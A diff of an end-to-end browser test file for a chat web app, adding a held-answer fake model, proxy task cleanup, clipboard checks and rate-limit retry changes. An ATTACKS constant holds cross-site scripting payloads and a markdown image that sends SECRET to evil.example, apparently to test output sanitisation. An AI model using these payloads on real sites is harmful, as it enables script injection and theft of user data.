@@ -3,20 +3,26 @@
 import asyncio
 import contextlib
 import re
-from collections.abc import Awaitable, Callable
+from collections.abc import AsyncIterator, Awaitable, Callable
 from pathlib import Path
 from typing import Any
 
 import pytest
+import pytest_asyncio
 from playwright.async_api import Locator, Page, Route, expect
 
 from chat.protocol import events, recording
 from chat.protocol.events import Event
 from tests.equality import equal
+from tests.faults.arena import environment
+from tests.faults.upstream import Model, Script, upstream
+from tests.servers.chromium import PATIENCE_MS
 from tests.servers.wondercam import Serve, WonderCam
 
 LONG = {"WONDERCAM_MODELS": "recording/long"}
 SLOW = {**LONG, "WONDERCAM_RECORDING_SPEED": "0.3"}
+HELD = "words=40 hold=20"
+"""A question to the script, whose answer stays in its middle until it is let."""
 ATTACKS = (
     "<img src=x onerror=window.__pwned=1> <svg/onload=window.__pwned=1> <script>window.__pwned=1</script>\n\n"
     "[go](javascript:window.__pwned=1) [go](&#106;avascript:window.__pwned=1) ![x](http://evil.example/?q=SECRET)\n\n"
@@ -32,12 +38,19 @@ def start(serve: Serve, page: Page) -> Start:
     """Start a server and open its page; console errors and violated policies fail the test."""
 
     async def start(env: dict[str, str]) -> WonderCam:
-        server = serve(env)
+        server = await asyncio.to_thread(serve, env)
         await page.context.grant_permissions(["clipboard-read", "clipboard-write"])
         await page.goto(server.url)
         return server
 
     return start
+
+
+@pytest_asyncio.fixture
+async def model() -> AsyncIterator[Model]:
+    """A model that does what the question says."""
+    async with upstream() as model:
+        yield model
 
 
 class Line:
@@ -46,6 +59,7 @@ class Line:
     def __init__(self, port: int) -> None:
         self._port = port
         self._open: set[asyncio.StreamWriter] = set()
+        self._tasks: set[asyncio.Task[None]] = set()
         self.cuts = 0
 
     async def __aenter__(self) -> "Line":
@@ -55,7 +69,11 @@ class Line:
 
     async def __aexit__(self, *_: object) -> None:
         self._server.close()
+        await asyncio.sleep(0)  # who has just been accepted is known after this
         self.cut()
+        for task in self._tasks:
+            task.cancel()
+        await asyncio.gather(*self._tasks, return_exceptions=True)
 
     def cut(self) -> None:
         """Every connection that is open breaks off at once, wherever it is."""
@@ -65,9 +83,16 @@ class Line:
         self._open.clear()
 
     async def _connect(self, reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
-        back_reader, back = await asyncio.open_connection("127.0.0.1", self._port)
-        self._open |= {writer, back}
-        await asyncio.gather(self._pass(reader, back), self._pass(back_reader, writer))
+        task = asyncio.current_task()
+        assert task is not None
+        self._tasks.add(task)
+        self._open.add(writer)
+        try:
+            back_reader, back = await asyncio.open_connection("127.0.0.1", self._port)
+            self._open.add(back)
+            await asyncio.gather(self._pass(reader, back), self._pass(back_reader, writer))
+        finally:
+            self._tasks.discard(task)
 
     async def _pass(self, reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
         with contextlib.suppress(OSError):
@@ -89,7 +114,7 @@ async def ask(page: Page, question: str) -> None:
     await page.keyboard.press("Enter")
 
 
-async def ended(page: Page, status: str, seconds: float = 30) -> None:
+async def ended(page: Page, status: str, seconds: float = PATIENCE_MS / 1000) -> None:
     """The newest answer has come to this end, and all of it stands there."""
     await expect(answer(page)).to_have_attribute("data-status", status, timeout=seconds * 1000)
     await expect(page.locator("#transcript")).to_have_attribute("data-whole", "")
@@ -106,8 +131,9 @@ async def grown_to(page: Page, length: int) -> None:
 
 async def copied(page: Page) -> str:
     """The newest answer's text, by its copy button."""
+    await page.evaluate("navigator.clipboard.writeText('')")
     await answer(page).get_by_label("Copy this answer").click()
-    await expect(answer(page).get_by_label("Copy this answer")).to_have_attribute("data-done", "")
+    await page.wait_for_function("navigator.clipboard.readText()")
     return str(await page.evaluate("navigator.clipboard.readText()"))
 
 
@@ -130,7 +156,6 @@ async def token_of(page: Page) -> str:
     return str((await answered.json())["access"])
 
 
-@pytest.mark.timeout(300)
 async def test_a_guest_asks_the_embedded_model_and_reloads_in_the_middle(page: Page, start: Start) -> None:
     server = await start({})
     await ask(page, "Tell me a story about a lighthouse, in ten sentences.")
@@ -183,15 +208,16 @@ async def test_the_line_drops_and_the_answer_goes_on_without_a_second_question(p
         await assert_equal_everywhere(page, server)
 
 
-async def test_stop_keeps_what_was_written_and_try_again_answers_anew(page: Page, start: Start) -> None:
-    server = await start(LONG)
-    await ask(page, "Why is the sky blue?")
+async def test_stop_keeps_what_was_written_and_try_again_answers_anew(page: Page, start: Start, model: Model) -> None:
+    server = await start(environment(model.url))
+    await ask(page, HELD)
     await grown_to(page, 40)
     await page.get_by_label("Stop the answer").click()
-    await ended(page, "stopped", 3)
-    assert 40 <= len(await copied(page)) < 900
+    await ended(page, "stopped")
+    assert await copied(page) == "".join(Script(words=20).said())
     await assert_equal_everywhere(page, server)
     await expect(answer(page)).to_contain_text("You stopped this answer.")
+    model.let()
     await page.get_by_role("button", name="Try again").click()
     await ended(page, "complete")
     await expect(page.locator("article")).to_have_count(2)
@@ -202,12 +228,14 @@ async def test_stop_works_before_the_first_word(page: Page, start: Start) -> Non
     await start({"WONDERCAM_MODELS": "recording/long", "WONDERCAM_RECORDING_SPEED": "0.05"})
     await ask(page, "Why is the sky blue?")
     await page.get_by_label("Stop the answer").click()
-    await ended(page, "stopped", 3)
+    await ended(page, "stopped")
 
 
-async def test_a_server_killed_in_the_middle_says_so_and_offers_another_try(page: Page, start: Start) -> None:
-    server = await start(LONG)
-    await ask(page, "Why is the sky blue?")
+async def test_a_server_killed_in_the_middle_says_so_and_offers_another_try(
+    page: Page, start: Start, model: Model
+) -> None:
+    server = await start(environment(model.url))
+    await ask(page, HELD)
     await grown_to(page, 40)
     server.kill9()
     await expect(answer(page).locator("[data-part=line]")).to_contain_text("connection was lost")
@@ -220,6 +248,7 @@ async def test_a_server_killed_in_the_middle_says_so_and_offers_another_try(page
     await page.reload()
     await expect(answer(page)).to_contain_text("went away in the middle")
     await assert_equal_everywhere(page, server)
+    model.let()
     await page.get_by_role("button", name="Try again").click()
     await ended(page, "complete")
 
@@ -366,15 +395,15 @@ async def test_a_refusal_for_a_while_is_said_and_the_question_goes_out_again(pag
         if refused:
             return await route.continue_()
         refused.append(route.request.post_data_json["request_id"])
-        message = "These questions come too fast. Try again in 1 s."
+        message = "These questions come too fast. Try again in 5 s."
         body = {"error": {"code": 429, "status": "RESOURCE_EXHAUSTED", "message": message}}
-        return await route.fulfill(status=429, json=body, headers={"Retry-After": "1"})
+        return await route.fulfill(status=429, json=body, headers={"Retry-After": "5"})
 
     await page.route("**/v2/echat", refuse_once)
     async with page.expect_response(lambda found: found.url.endswith("/v2/echat") and found.ok) as taken:
         await ask(page, "Hello?")
         await expect(answer(page).locator("[data-part=line]")).to_have_text(
-            "These questions come too fast. The page tries again by itself in 1 s…"
+            re.compile(r"These questions come too fast\. The page tries again by itself in \d s…")
         )
     assert (await taken.value).request.post_data_json["request_id"] == refused[0]
     await ended(page, "complete")
